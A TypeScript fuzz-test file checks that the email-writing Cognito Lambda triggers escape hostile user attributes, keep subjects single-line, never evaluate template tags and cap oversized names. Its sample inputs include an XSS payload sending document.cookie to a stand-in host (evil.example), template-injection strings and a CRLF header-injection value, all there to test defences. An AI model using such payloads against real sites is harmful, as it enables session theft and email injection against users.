/*
 * Injection through user attributes, for every email the project writes: the CustomMessage messages of all seven
 * sources and the PostConfirmation welcome email and password-changed notice. Markup is escaped, line breaks never
 * reach a subject, template syntax is printed rather than evaluated, and oversized values cannot push a message
 * past Cognito's limits (CustomMessage falls back to Cognito's default) or bloat an email (the greeting is cut).
 */

import { MESSAGE_LIMITS } from '@functions/custom-message/messages/response-check';
import { createPostConfirmationHandler } from '@functions/post-confirmation/handler';
import { singleLine } from '@shared/text';
import { FIXTURES_BY_TRIGGER, loadFixture } from '@test/helpers/fixtures';
import { lambdaContext } from '@test/helpers/lambda-context';
import { captureStdoutLogsOfEachTest } from '@test/helpers/log-capture';
import { fakeDependencies, testConfig as postConfirmationConfig } from '@test/unit/post-confirmation/support';
import type { CustomMessageTriggerEvent, PostConfirmationTriggerEvent } from 'aws-lambda';
import fc from 'fast-check';
import { FUZZ_RUNS } from './containment';
import { type FuzzHandlers, fuzzHandlers } from './fuzz-handlers';
import { hostileString } from './hostile-events';

/** Attribute values that try to escape their context: markup, header breaks, template tags, placeholders. */
const injected = fc.oneof(
  hostileString,
  fc.constantFrom(
    '</p><script>document.location="https://evil.example/?c="+document.cookie</script>',
    'Jane<%~ it.code %><%= it.username %>',
    "<% throw new Error('evaluated') %>",
    'Line one\r\nSubject: injected\r\n\r\n<b>body</b>',
    '{####}{username}',
  ),
);

/** The attributes an email may print, each possibly hostile. */
const hostileAttributes = fc.record(
  { name: injected, given_name: injected, family_name: injected, locale: injected },
  { requiredKeys: [] },
);

let handlers: FuzzHandlers;
const logs = captureStdoutLogsOfEachTest();

/** The postConfirmation handler over a mailer whose calls show the emails it sends. */
const onboarding = fakeDependencies();
const postConfirmation = createPostConfirmationHandler(postConfirmationConfig({ LOG_LEVEL: 'warn' }), onboarding);

beforeAll(async () => {
  handlers = await fuzzHandlers({ LOG_LEVEL: 'warn' });
});

beforeEach(() => {
  onboarding.mailer.send.mockClear();
});

function occurrences(text: string, part: string): number {
  return text.split(part).length - 1;
}

/** Markup an attribute may carry that must never reach an email unescaped. */
const RAW_MARKUP = /<script|<img|<b>|<%/i;

describe('CustomMessage messages with hostile attributes', () => {
  it.each(FIXTURES_BY_TRIGGER.CustomMessage)(
    '%s: escaped, single-line subject, nothing evaluated, within limits or the default',
    async (source) => {
      const plain = (await handlers.invoke.CustomMessage(loadFixture(source))) as CustomMessageTriggerEvent;
      const placeholders = (text: string) => [
        occurrences(text, plain.request.codeParameter),
        occurrences(text, '{username}'),
      ];

      await fc.assert(
        fc.asyncProperty(hostileAttributes, async (attributes) => {
          const event = loadFixture(source);
          Object.assign(event.request.userAttributes, attributes);

          const { response } = (await handlers.invoke.CustomMessage(event)) as CustomMessageTriggerEvent;

          const { emailMessage, emailSubject, smsMessage } = response;
          if (emailMessage == null) {
            // Fallback: all three fields are left to Cognito together.
            expect([emailSubject, smsMessage]).toEqual([null, null]);
            return;
          }
          expect(emailMessage).not.toMatch(RAW_MARKUP);
          expect(emailMessage.length).toBeLessThanOrEqual(MESSAGE_LIMITS.emailMax);
          expect(placeholders(emailMessage)).toEqual(placeholders(plain.response.emailMessage ?? ''));
          expect(emailSubject).not.toMatch(/[\r\n\u2028\u2029]/);
          expect(emailSubject?.length).toBeLessThanOrEqual(MESSAGE_LIMITS.subjectMax);
          expect(smsMessage?.length).toBeLessThanOrEqual(MESSAGE_LIMITS.smsMax);
        }),
        FUZZ_RUNS,
      );
    },
  );

  it('falls back to the default message when a 1 MB name would push the email past 20,000 characters', async () => {
    const event = loadFixture('CustomMessage_SignUp');
    event.request.userAttributes.name = 'N'.repeat(1 << 20);

    const { response } = await handlers.invoke.CustomMessage(event);

    expect(response).toEqual({ emailMessage: null, emailSubject: null, smsMessage: null });
    expect(logs.entries()).toContainEqual(expect.objectContaining({ level: 'error', failedRules: ['email-length'] }));
  });
});

describe.each(FIXTURES_BY_TRIGGER.PostConfirmation)(
  'the PostConfirmation email of %s with hostile attributes',
  (source) => {
    const sent = () => {
      const calls = onboarding.mailer.send.mock.calls;
      const message = calls[calls.length - 1]?.[0];
      if (message === undefined) throw new Error('No email was sent.');
      return message;
    };

    it('is escaped, has a single-line subject, evaluates nothing and stays small', async () => {
      await fc.assert(
        fc.asyncProperty(hostileAttributes, async (attributes) => {
          const event = loadFixture(source) as PostConfirmationTriggerEvent;
          Object.assign(event.request.userAttributes, attributes);

          await postConfirmation(event, lambdaContext());

          const { subject, html, text } = sent();
          expect(html).not.toMatch(RAW_MARKUP);
          // The plain-text part prints the name as it is: as data, not as a template.
          const { name, given_name: givenName } = event.request.userAttributes;
          expect(text).toContain(singleLine(name || givenName || '', 80));
          expect(subject).not.toMatch(/[\r\n\u2028\u2029]/);
          expect(html.length + text.length).toBeLessThan(20_000);
        }),
        FUZZ_RUNS,
      );
    });

    it('greets a user with a 1 MB name by a name cut to 80 characters', async () => {
      const event = loadFixture(source) as PostConfirmationTriggerEvent;
      event.request.userAttributes['name'] = 'N'.repeat(1 << 20);

      await postConfirmation(event, lambdaContext());

      const { text } = sent();
      expect(text).toContain(`${'N'.repeat(79)}…`);
      expect(text).not.toContain('N'.repeat(80));
    });
  },
);
